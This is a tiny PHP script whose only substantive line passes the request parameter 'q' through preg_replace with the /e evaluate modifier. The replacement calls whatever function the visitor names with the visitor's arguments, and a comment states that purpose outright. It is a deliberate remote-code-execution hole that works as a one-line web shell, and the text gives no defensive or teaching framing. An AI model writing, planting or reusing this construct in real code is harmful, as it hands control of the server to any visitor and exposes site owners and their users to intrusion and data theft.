<?php
// a comment between the backreference and "(" calls what the visitor names
echo preg_replace('/(\w+)-([\w\s.-]+)/e', '\1 /**/ (\2)', $_GET['q']);
